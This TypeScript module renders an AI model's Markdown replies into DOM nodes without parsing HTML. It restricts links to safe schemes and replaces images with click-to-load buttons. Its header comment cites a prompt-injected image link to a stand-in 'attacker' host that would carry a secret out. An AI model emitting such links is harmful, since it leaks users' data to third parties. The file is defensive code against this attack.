import { Lexer, type Token, type Tokens } from 'marked';

/**
 * Markdown → DOM nodes, safely. `marked` only tokenises; the nodes are built here with
 * `createElement` and `textContent`, so the model's text is never parsed as HTML: raw HTML in a
 * reply is shown as text, no element other than the ones below can appear, no attribute other
 * than a checked `href`/`title`/`start`/`align` is ever set (so no event handlers, no style, no
 * `javascript:` or `data:` links), and mutation XSS has nothing to mutate. Links open in a new
 * tab with `rel="noopener noreferrer"`; images are never fetched on their own: each becomes a
 * "Load image from host" button (a prompt-injected `![](https://attacker/?q=secret)` sends nothing).
 */
export interface RenderOptions {
  loadImageLabel: (host: string) => string;
}

const ENTITIES: Record<string, string> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  nbsp: '\u00a0',
  '#39': "'",
};
const decode = (text: string) =>
  text.replace(/&(amp|lt|gt|quot|apos|nbsp|#39);/g, (_, name: string) => ENTITIES[name] ?? '');

/** An absolute http(s) or mailto URL, or undefined. Control characters and whitespace never pass. */
export function safeUrl(raw: string, schemes: readonly string[] = ['http:', 'https:', 'mailto:']): string | undefined {
  const text = decode(raw).trim();
  if (/[\p{Cc}\s]/u.test(text)) return undefined;
  try {
    const url = new URL(text);
    return schemes.includes(url.protocol) ? url.href : undefined;
  } catch {
    return undefined;
  }
}

type Children = Token[] | undefined;

function h(tag: string, parent: Node): HTMLElement {
  const node = document.createElement(tag);
  parent.appendChild(node);
  return node;
}

function inline(tokens: Children, parent: Node, options: RenderOptions): void {
  for (const token of tokens ?? []) {
    switch (token.type) {
      case 'strong':
      case 'em':
      case 'del':
        inline(token.tokens, h(token.type === 'del' ? 'del' : token.type, parent), options);
        break;
      case 'codespan':
        h('code', parent).textContent = decode(token.text);
        break;
      case 'br':
        h('br', parent);
        break;
      case 'link': {
        const href = safeUrl(token.href);
        if (!href) {
          inline(token.tokens, parent, options);
          break;
        }
        const a = h('a', parent) as HTMLAnchorElement;
        a.href = href;
        a.target = '_blank';
        a.rel = 'noopener noreferrer';
        if (token.title) a.title = decode(token.title);
        inline(token.tokens, a, options);
        break;
      }
      case 'image':
        image(token as Tokens.Image, parent, options);
        break;
      case 'text':
        if ('tokens' in token && token.tokens?.length) inline(token.tokens, parent, options);
        else parent.appendChild(document.createTextNode(decode(token.text)));
        break;
      default:
        // escape, html (shown as text), and anything unknown: their text, never markup.
        parent.appendChild(document.createTextNode(decode('text' in token ? String(token.text) : token.raw)));
    }
  }
}

function image(token: Tokens.Image, parent: Node, options: RenderOptions): void {
  const url = safeUrl(token.href, ['http:', 'https:']);
  if (!url) {
    parent.appendChild(document.createTextNode(decode(token.text)));
    return;
  }
  const button = h('button', parent) as HTMLButtonElement;
  button.type = 'button';
  button.className = 'img-btn';
  button.textContent = options.loadImageLabel(new URL(url).host);
  button.addEventListener('click', () => {
    const img = document.createElement('img');
    img.alt = decode(token.text);
    img.referrerPolicy = 'no-referrer';
    img.src = url;
    button.replaceWith(img);
  });
}

function blocks(tokens: Children, parent: Node, options: RenderOptions): void {
  for (const token of tokens ?? []) {
    switch (token.type) {
      case 'space':
      case 'def':
        break;
      case 'paragraph':
        inline(token.tokens, h('p', parent), options);
        break;
      case 'heading':
        inline(token.tokens, h(`h${Math.min(6, Math.max(1, Number(token.depth) || 1))}`, parent), options);
        break;
      case 'code':
        h('code', h('pre', parent)).textContent = token.text;
        break;
      case 'blockquote':
        blocks(token.tokens, h('blockquote', parent), options);
        break;
      case 'hr':
        h('hr', parent);
        break;
      case 'list': {
        const list = token as Tokens.List;
        const node = h(list.ordered ? 'ol' : 'ul', parent);
        if (list.ordered && typeof list.start === 'number' && list.start !== 1)
          node.setAttribute('start', String(list.start));
        for (const item of list.items) {
          const li = h('li', node);
          if (item.task) li.append(item.checked ? '☑ ' : '☐ ');
          // Tight lists hold `text` blocks: render their inline tokens straight into the item.
          for (const child of item.tokens) {
            if (child.type === 'text') inline('tokens' in child && child.tokens ? child.tokens : [child], li, options);
            else if (child.type !== 'checkbox') blocks([child], li, options);
          }
        }
        break;
      }
      case 'table': {
        const table = token as Tokens.Table;
        const node = h('table', parent);
        const row = (cells: Tokens.TableCell[], tag: string, into: Node) => {
          const tr = h('tr', into);
          cells.forEach((cell, i) => {
            const td = h(tag, tr);
            const align = table.align[i];
            if (align) td.setAttribute('align', align);
            inline(cell.tokens, td, options);
          });
        };
        row(table.header, 'th', h('thead', node));
        const body = h('tbody', node);
        for (const cells of table.rows) row(cells, 'td', body);
        break;
      }
      case 'text':
        inline('tokens' in token && token.tokens ? token.tokens : [token], h('p', parent), options);
        break;
      default:
        // Block HTML and unknown blocks: shown as text.
        h('p', parent).textContent = decode('text' in token ? String(token.text) : token.raw);
    }
  }
}

export function renderMarkdown(text: string, options: RenderOptions): DocumentFragment {
  const fragment = document.createDocumentFragment();
  blocks(Lexer.lex(text, { gfm: true, breaks: true }), fragment, options);
  return fragment;
}
